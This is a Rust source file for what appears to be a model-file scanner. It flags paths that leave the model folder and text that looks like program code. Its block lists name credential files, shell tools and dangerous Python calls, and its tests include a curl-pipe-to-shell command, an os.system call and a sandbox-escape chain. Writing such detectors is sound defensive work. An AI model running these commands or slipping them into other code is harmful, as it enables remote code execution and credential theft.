//! Names inside a model that point out of it: paths, addresses, and text that is code.
//!
//! It judges words alone and reads no file.

/// What is wrong with a path that should name a file beside the model; none when nothing is.
pub(crate) fn leads_away(path: &str) -> Option<&'static str> {
    let bytes = path.as_bytes();
    if path.contains("://") || path.starts_with("file:") || path.starts_with("data:") {
        Some("an address")
    } else if matches!(bytes, [b'/' | b'\\', ..])
        || matches!(bytes, [drive, b':', ..] if drive.is_ascii_alphabetic())
    {
        Some("an absolute path")
    } else if path.split(['/', '\\']).any(|part| part == "..") {
        Some("a path that leaves the folder")
    } else if path.starts_with('~') || path.contains("${") || path.contains("$(") {
        Some("a path that the system fills in")
    } else if path.bytes().any(|byte| byte < 0x20) {
        Some("a path with control characters")
    } else {
        None
    }
}

/// Folders in which nothing that belongs to a model lies.
pub(crate) fn is_private(path: &str) -> bool {
    let path = path.strip_prefix("file://").unwrap_or(path);
    const PLACES: [&str; 9] =
        ["/etc/", "/proc/", "/sys/", "/root/", "/dev/", "/var/", "/boot/", "/run/", "~/"];
    let places =
        [".ssh", ".aws", ".bashrc", ".profile", "id_rsa", "crontab", "cron.d", "authorized_keys", ".kube"];
    PLACES.iter().any(|place| path.starts_with(place)) || places.iter().any(|place| path.contains(place))
}

/// Calls that stand in program code and hardly ever in other text.
const CALLS: [&str; 27] = [
    "__import__(",
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.remove(",
    "os.environ",
    "subprocess.",
    "exec(",
    "eval(",
    "compile(",
    "importlib.",
    "__builtins__",
    "__globals__",
    "__subclasses__",
    "__reduce__",
    "pty.spawn(",
    "socket.socket(",
    "urllib.request",
    "requests.get(",
    "requests.post(",
    "shutil.rmtree(",
    "ctypes.",
    "pickle.loads(",
    "marshal.loads(",
    "base64.b64decode(",
    "Runtime.getRuntime(",
];
const SHELLS: [&str; 7] =
    ["/bin/sh", "/bin/bash", "curl http", "wget http", "powershell", "bash -i", "nc -e"];

/// The first piece of program code in a text that should hold none.
///
/// A vocabulary may well have `eval(` or `/bin/bash` as one of its words: code goes on behind such a word.
pub(crate) fn code_in(text: &str) -> Option<&'static str> {
    let goes_on = |after: &str| {
        after.chars().any(char::is_alphanumeric) && after.contains([')', ';', ' ', '"', '\'', '|', '='])
    };
    let found = |word: &&str| {
        text.match_indices(*word).any(|(at, _)| {
            let before = text.get(..at).and_then(|before| before.chars().next_back());
            let after = text.get(at.saturating_add(word.len())..).unwrap_or_default();
            // `retrieval(`, `torch.compile(` and `myexec(` are names of their own.
            let method = matches!(*word, "eval(" | "exec(" | "compile(");
            let part = before.is_some_and(|c| c.is_alphanumeric() || c == '_' || (method && c == '.'));
            !part && (goes_on(after) || (word.starts_with("__") && after.contains('.')))
        })
    };
    CALLS.iter().chain(&SHELLS).copied().find(|word| found(word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_beside_the_model_is_fine_and_one_elsewhere_is_not() {
        for fine in ["weights.bin", "data/part 1.bin", "a..b", "model.onnx_data"] {
            assert_eq!(leads_away(fine), None, "{fine}");
        }
        for away in
            ["/etc/passwd", "../x", "a/../../x", "C:\\x", "\\\\host\\x", "http://x", "~/x", "file:x", "a\0b"]
        {
            assert!(leads_away(away).is_some(), "{away}");
        }
    }

    #[test]
    fn code_is_told_from_words() {
        assert_eq!(code_in("__import__('os').system('id')"), Some("__import__("));
        assert_eq!(code_in("{0: 'person', 1: 'bicycle'}"), None);
        assert_eq!(code_in("information retrieval(dense)"), None);
        for word in ["eval(", "/bin/bash", "subprocess.", "y = torch.compile(model)", "model.eval()"] {
            assert_eq!(code_in(word), None, "{word}");
        }
        for code in
            ["os.system('id')", "x; curl http://example.org/x | sh", "().__class__.__subclasses__()[3]"]
        {
            assert!(code_in(code).is_some(), "{code}");
        }
    }
}
